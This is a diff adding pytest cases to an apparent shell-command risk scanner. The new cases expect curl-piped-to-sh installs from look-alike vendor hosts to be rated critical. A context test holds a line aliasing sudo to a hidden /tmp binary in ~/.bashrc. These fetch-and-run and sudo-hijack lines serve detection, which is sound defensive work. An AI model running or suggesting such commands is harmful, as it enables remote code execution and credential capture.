@@ -400,3 +400,16 @@ def test_commands_inside_strings_and_odd_names(cmd: str, rule: str) -> None:
 def test_an_alias_over_sudo_in_an_rc_file_is_not_a_benign_rc_line() -> None:
     assert worst(verdict(fenced("echo 'alias sudo=\"/tmp/.s\"' >> ~/.bashrc")), "LS911") == "high"
     assert worst(verdict(fenced("echo 'alias ll=\"ls -la\"' >> ~/.bashrc")), "LS911") == "medium"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://astral.sh.evil.invalid/uv/install.sh",
+        "https://raw.githubusercontent.com/evil/uv/main/install.sh",
+        "http://astral.sh/uv/install.sh",
+    ],
+)
+def test_a_vendor_look_alike_origin_is_not_vouched(url: str) -> None:
+    assert worst(verdict(fenced(f"curl -LsSf {url} | sh")), "LS311") == "critical"
+    assert worst(verdict(fenced("curl -LsSf https://rye.astral.sh/get | bash")), "LS311") == "medium"
